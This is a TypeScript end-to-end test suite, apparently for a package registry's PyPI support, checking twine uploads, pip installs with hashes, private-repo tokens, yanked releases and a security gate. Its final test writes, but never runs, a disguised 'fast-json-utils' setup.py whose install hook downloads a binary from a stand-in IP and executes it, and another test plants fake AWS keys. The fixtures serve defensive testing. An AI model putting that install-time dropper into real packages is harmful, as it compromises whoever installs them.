/**
 * A Python package index with the real twine 4 and pip 23: a wheel and an sdist built here with
 * Debian's python3 are published with `twine upload` and installed with `pip install
 * --require-hashes` into fresh venvs, with every pip and twine setting of the host shut out. A
 * private repository answers pip only with a token in the index URL; a file the gate quarantines
 * is accepted but invisible to pip; a blocked one is refused with the finding in twine's output.
 */
import assert from 'node:assert/strict';
import { access, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { describeRun, runCommand, type RunResult } from './clients.js';
import { awsKeyPair } from '../security/secrets/fake-secrets.js';
import { type TestServer, startTestServer } from '../helpers/server.js';

const PYTHON = '/usr/bin/python3';
const TWINE = '/usr/bin/twine';

/** Only what the tools need: no PIP_*, TWINE_*, proxies or config of the host. */
function sandboxEnv(home: string, extra: Record<string, string> = {}): Record<string, string> {
  return {
    PATH: '/usr/bin:/bin',
    HOME: home,
    LANG: 'C.UTF-8',
    // twine wraps its messages at the terminal width; keep each on one line.
    COLUMNS: '300',
    // Every pip configuration file is skipped, the global and site ones included.
    PIP_CONFIG_FILE: '/dev/null',
    PIP_DISABLE_PIP_VERSION_CHECK: '1',
    PYTHONDONTWRITEBYTECODE: '1',
    // keyring would look for a desktop secret store; there is none, and none is wanted.
    PYTHON_KEYRING_BACKEND: 'keyring.backends.null.Keyring',
    ...extra,
  };
}

describe('PyPI repository with twine and pip', () => {
  let server: TestServer;
  let work: string;
  let home: string;
  let token = '';
  let readOnlyToken = '';
  const run = (command: string, args: string[], cwd: string, extra: Record<string, string> = {}) =>
    runCommand(command, args, sandboxEnv(home, extra), { cwd, timeoutMs: 240_000 });
  const ok = (result: RunResult) => assert.equal(result.code, 0, describeRun(result));

  /** A setuptools project built offline with Debian's python3 (`python -m build --no-isolation`). */
  async function buildProject(name: string, version: string, module: string, extra: Record<string, string> = {}): Promise<{ wheel: string; sdist: string; dir: string }> {
    const dir = await mkdtemp(path.join(work, `${name}-`));
    await mkdir(path.join(dir, module));
    await writeFile(path.join(dir, module, '__init__.py'), `VALUE = ${JSON.stringify(`${name} ${version}`)}\n`);
    for (const [file, body] of Object.entries(extra)) await writeFile(path.join(dir, module, file), body);
    await writeFile(
      path.join(dir, 'setup.cfg'),
      [
        '[metadata]',
        `name = ${name}`,
        `version = ${version}`,
        'description = a package built by the Stockade end-to-end suite',
        '',
        '[options]',
        `packages = ${module}`,
        'python_requires = >=3.7',
        '',
      ].join('\n'),
    );
    await writeFile(path.join(dir, 'pyproject.toml'), '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n');
    ok(await run(PYTHON, ['-m', 'build', '--no-isolation', '--sdist', '--wheel', '--outdir', 'dist', '.'], dir));
    const files = await readdir(path.join(dir, 'dist'));
    const wheel = files.find((f) => f.endsWith('.whl'));
    const sdist = files.find((f) => f.endsWith('.tar.gz'));
    assert.ok(wheel && sdist, `build made ${files.join(', ')}`);
    return { wheel: path.join(dir, 'dist', wheel), sdist: path.join(dir, 'dist', sdist), dir };
  }

  const indexOf = (repo: string) => `${server.url}/${repo}/pypi`;

  function twineUpload(repo: string, files: string[], options: { token?: string; skipExisting?: boolean } = {}) {
    const args = ['upload', '--non-interactive', '--disable-progress-bar', '--repository-url', `${indexOf(repo)}/legacy/`, '-u', '__token__', '-p', options.token ?? token];
    if (options.skipExisting) args.push('--skip-existing');
    return run(TWINE, [...args, ...files], work);
  }

  /** A fresh venv (Debian's python3, pip from ensurepip); `system` lets an sdist build with the system setuptools. */
  async function venv(label: string, system = false): Promise<string> {
    const dir = path.join(await mkdtemp(path.join(work, `venv-${label}-`)), 'venv');
    ok(await run(PYTHON, ['-m', 'venv', ...(system ? ['--system-site-packages'] : []), dir], work));
    return dir;
  }

  async function sha256Of(file: string): Promise<string> {
    const { createHash } = await import('node:crypto');
    return createHash('sha256').update(await readFile(file)).digest('hex');
  }

  async function pipInstall(env: string, indexUrl: string, requirement: string, options: { hash?: string; extra?: string[] } = {}) {
    const args = ['-m', 'pip', 'install', '--isolated', '--no-cache-dir', '--no-input', '--index-url', indexUrl, ...(options.extra ?? [])];
    if (options.hash) {
      const requirements = path.join(path.dirname(env), 'requirements.txt');
      await writeFile(requirements, `${requirement} --hash=sha256:${options.hash}\n`);
      args.push('--require-hashes', '-r', requirements);
    } else {
      args.push(requirement);
    }
    return run(path.join(env, 'bin', 'python'), args, path.dirname(env));
  }

  before(async () => {
    for (const tool of [PYTHON, TWINE]) {
      await access(tool).catch(() => {
        throw new Error(`${tool} is missing: apt-get install python3-venv python3-build twine (the suite never skips)`);
      });
    }
    server = await startTestServer();
    work = await mkdtemp(path.join(tmpdir(), 'stockade-pypi-'));
    home = path.join(work, 'home');
    await mkdir(home);
    const alice = await server.createUser('alice', { scopes: ['read', 'write'] });
    await server.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: alice.id });
    await server.createRepo('acme', 'py', 'public');
    await server.createRepo('acme', 'secret', 'private');
    await server.createRepo('acme', 'held', 'public');
    token = alice.token;
    const reader = await server.createUser('reader', { scopes: ['read'] });
    await server.domain.accounts.setMember(systemActor, { owner: 'acme', user: 'reader', role: 'write' });
    readOnlyToken = reader.token;
  });

  after(async () => {
    await server?.close();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('publishes a wheel and an sdist with twine; pip installs each with --require-hashes', async () => {
    const built = await buildProject('Stockade_Demo', '1.0.0', 'stockade_demo');
    ok(await twineUpload('acme/py', [built.wheel, built.sdist]));

    // pip asks for JSON first (PEP 691); the normalized name answers, others redirect.
    const page = await fetch(`${indexOf('acme/py')}/simple/stockade-demo/`, {
      headers: { accept: 'application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01' },
    });
    assert.equal(page.status, 200);
    assert.equal(page.headers.get('content-type'), 'application/vnd.pypi.simple.v1+json');
    const doc = (await page.json()) as { name: string; versions: string[]; files: { filename: string; 'requires-python'?: string; 'core-metadata': unknown }[] };
    assert.equal(doc.name, 'stockade-demo');
    assert.deepEqual(doc.versions, ['1.0.0']);
    assert.deepEqual(doc.files.map((f) => f.filename).sort(), [path.basename(built.wheel), path.basename(built.sdist)].sort());
    assert.ok(doc.files.every((f) => f['requires-python'] === '>=3.7'));
    const redirect = await fetch(`${indexOf('acme/py')}/simple/Stockade_Demo/`, { redirect: 'manual' });
    assert.equal(redirect.status, 301);
    assert.equal(redirect.headers.get('location'), '/acme/py/pypi/simple/stockade-demo/');

    const wheelEnv = await venv('wheel');
    ok(await pipInstall(wheelEnv, `${indexOf('acme/py')}/simple/`, 'stockade-demo==1.0.0', { hash: await sha256Of(built.wheel), extra: ['--only-binary', ':all:'] }));
    const imported = await run(path.join(wheelEnv, 'bin', 'python'), ['-c', 'import stockade_demo; print(stockade_demo.VALUE)'], work);
    ok(imported);
    assert.equal(imported.stdout.trim(), 'Stockade_Demo 1.0.0');

    const sdistEnv = await venv('sdist', true);
    ok(
      await pipInstall(sdistEnv, `${indexOf('acme/py')}/simple/`, 'stockade-demo==1.0.0', {
        hash: await sha256Of(built.sdist),
        extra: ['--no-binary', ':all:', '--no-build-isolation'],
      }),
    );
    const fromSource = await run(path.join(sdistEnv, 'bin', 'python'), ['-c', 'import stockade_demo; print(stockade_demo.__file__)'], work);
    ok(fromSource);
    assert.ok(fromSource.stdout.includes(sdistEnv), `installed into the venv: ${fromSource.stdout}`);
  });

  it('pip reads the wheel metadata from the PEP 658 file without downloading a wrong one', async () => {
    const page = await fetch(`${indexOf('acme/py')}/simple/stockade-demo/`);
    const html = await page.text();
    assert.match(html, /<meta name="pypi:repository-version" content="1\.1">/);
    const link = /href="([^"]+\.whl)#sha256=[0-9a-f]{64}"[^>]*data-core-metadata="sha256=([0-9a-f]{64})"/.exec(html);
    assert.ok(link, html);
    const metadata = await fetch(new URL(`${link[1]}.metadata`, page.url));
    assert.equal(metadata.status, 200);
    const body = Buffer.from(await metadata.arrayBuffer());
    const { createHash } = await import('node:crypto');
    assert.equal(createHash('sha256').update(body).digest('hex'), link[2]);
    assert.match(body.toString('utf8'), /^Name: Stockade[-_]Demo$/m);
  });

  it('twine is told "File already exists" for other bytes under a taken name, and --skip-existing goes on', async () => {
    const rebuilt = await buildProject('Stockade_Demo', '1.0.0', 'stockade_demo', { 'extra.py': 'CHANGED = True\n' });
    const again = await twineUpload('acme/py', [rebuilt.wheel]);
    assert.notEqual(again.code, 0);
    assert.match(again.stdout + again.stderr, /400 Bad Request[\s\S]*File already exists/);
    ok(await twineUpload('acme/py', [rebuilt.wheel], { skipExisting: true }));
  });

  it('a yanked release is skipped by pip unless pinned exactly', async () => {
    const next = await buildProject('Stockade_Demo', '1.1.0', 'stockade_demo');
    ok(await twineUpload('acme/py', [next.wheel]));
    const yank = await fetch(`${server.url}/api/v1/repos/acme/py/packages/pypi/stockade-demo/versions/1.1.0/yank`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ reason: 'broken import' }),
    });
    assert.equal(yank.status, 200, await yank.text());
    const env = await venv('yank');
    ok(await pipInstall(env, `${indexOf('acme/py')}/simple/`, 'stockade-demo'));
    const latest = await run(path.join(env, 'bin', 'python'), ['-c', 'import stockade_demo; print(stockade_demo.VALUE)'], work);
    assert.equal(latest.stdout.trim(), 'Stockade_Demo 1.0.0', 'the yanked 1.1.0 is not chosen');
    const pinned = await pipInstall(env, `${indexOf('acme/py')}/simple/`, 'stockade-demo==1.1.0');
    ok(pinned);
    assert.match(pinned.stdout + pinned.stderr, /yanked.*broken import/i);
  });

  it('a private repository answers pip only with a token in the index URL', async () => {
    const built = await buildProject('secret-lib', '0.1.0', 'secret_lib');
    ok(await twineUpload('acme/secret', [built.wheel]));
    const anonymous = await fetch(`${indexOf('acme/secret')}/simple/secret-lib/`);
    assert.equal(anonymous.status, 401);
    assert.match(anonymous.headers.get('www-authenticate') ?? '', /^Basic/);

    const env = await venv('private');
    const refused = await pipInstall(env, `${indexOf('acme/secret')}/simple/`, 'secret-lib');
    assert.notEqual(refused.code, 0, describeRun(refused));
    const withToken = `${server.url.replace('http://', `http://__token__:${readOnlyToken}@`)}/acme/secret/pypi/simple/`;
    ok(await pipInstall(env, withToken, 'secret-lib==0.1.0', { hash: await sha256Of(built.wheel) }));
  });

  it('a token with the read scope only cannot upload', async () => {
    const built = await buildProject('readonly-try', '1.0', 'readonly_try');
    const refused = await twineUpload('acme/py', [built.wheel], { token: readOnlyToken });
    assert.notEqual(refused.code, 0);
    assert.match(refused.stdout + refused.stderr, /403 Forbidden[\s\S]*may not publish to acme\/py/);
  });

  it('a file the gate quarantines is accepted but invisible to pip; a blocked one is refused naming the finding', async () => {
    const keys = awsKeyPair('pypi-e2e');
    const leaky = { 'settings.py': `AWS_ACCESS_KEY_ID = '${keys.id}'\nAWS_SECRET_ACCESS_KEY = '${keys.secret}'\n` };
    const blockedBuild = await buildProject('leaky-lib', '1.0.0', 'leaky_lib', leaky);
    const blocked = await twineUpload('acme/py', [blockedBuild.wheel]);
    assert.notEqual(blocked.code, 0);
    const output = blocked.stdout + blocked.stderr;
    assert.match(output, /403 Forbidden[\s\S]*blocked by the security gate: secrets\/aws/);
    assert.ok(!output.includes(keys.secret), 'twine output must not echo the secret');

    const policy = await fetch(`${server.url}/api/v1/repos/acme/held/policy`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${server.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ version: 1, rules: [{ match: { analyzer: 'secrets' }, action: 'quarantine' }] }),
    });
    assert.equal(policy.status, 200, await policy.text());
    ok(await twineUpload('acme/held', [blockedBuild.wheel]));
    const index = await fetch(`${indexOf('acme/held')}/simple/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } });
    assert.deepEqual(((await index.json()) as { projects: unknown[] }).projects, []);
    assert.equal((await fetch(`${indexOf('acme/held')}/simple/leaky-lib/`)).status, 404);
    const env = await venv('held');
    const refused = await pipInstall(env, `${indexOf('acme/held')}/simple/`, 'leaky-lib');
    assert.notEqual(refused.code, 0, describeRun(refused));
    assert.match(refused.stdout + refused.stderr, /No matching distribution found for leaky-lib/);
  });

  it('an sdist whose setup.py downloads and runs a binary is quarantined by the default policy, and pip never sees it', async () => {
    // Written as files and packed without running setup.py: nothing here ever executes it.
    const top = path.join(await mkdtemp(path.join(work, 'dropper-')), 'fast-json-utils-0.1.0');
    await mkdir(top, { recursive: true });
    const pkgInfo = 'Metadata-Version: 2.1\nName: fast-json-utils\nVersion: 0.1.0\nSummary: Faster JSON helpers\n';
    await writeFile(path.join(top, 'PKG-INFO'), pkgInfo);
    await writeFile(
      path.join(top, 'setup.py'),
      [
        'import os, stat, subprocess, urllib.request',
        'from setuptools import setup',
        'from setuptools.command.install import install',
        '',
        'class PostInstall(install):',
        '    def run(self):',
        '        install.run(self)',
        "        target = os.path.join(os.path.expanduser('~'), '.cache', 'json-updater')",
        "        urllib.request.urlretrieve('http://203.0.113.7/u.bin', target)",
        '        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)',
        '        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
        '',
        "setup(name='fast-json-utils', version='0.1.0', packages=[], cmdclass={'install': PostInstall})",
        '',
      ].join('\n'),
    );
    const sdist = path.join(path.dirname(top), 'fast_json_utils-0.1.0.tar.gz');
    const { create } = await import('tar');
    await create({ gzip: true, file: sdist, cwd: path.dirname(top), portable: true }, [path.basename(top)]);

    const upload = await twineUpload('acme/py', [sdist]);
    ok(upload);
    const stored = await server.domain.packages.load(
      { repo: (await server.domain.repos.get('acme', 'py'))!, format: 'pypi', name: 'fast-json-utils' },
      { includeQuarantined: true },
    );
    assert.equal(stored?.versions[0]?.status, 'quarantined');
    const rules = (stored?.versions[0]?.gate.findings as { rule: string; action: string }[]).filter((f) => f.action === 'quarantine').map((f) => f.rule);
    assert.ok(rules.some((rule) => rule.startsWith('malware/')), `quarantined by ${rules.join(', ')}`);
    assert.equal((await fetch(`${indexOf('acme/py')}/simple/fast-json-utils/`)).status, 404);
    const env = await venv('dropper', true);
    const refused = await pipInstall(env, `${indexOf('acme/py')}/simple/`, 'fast-json-utils');
    assert.notEqual(refused.code, 0, describeRun(refused));
    assert.match(refused.stdout + refused.stderr, /No matching distribution found for fast-json-utils/);
  });
});
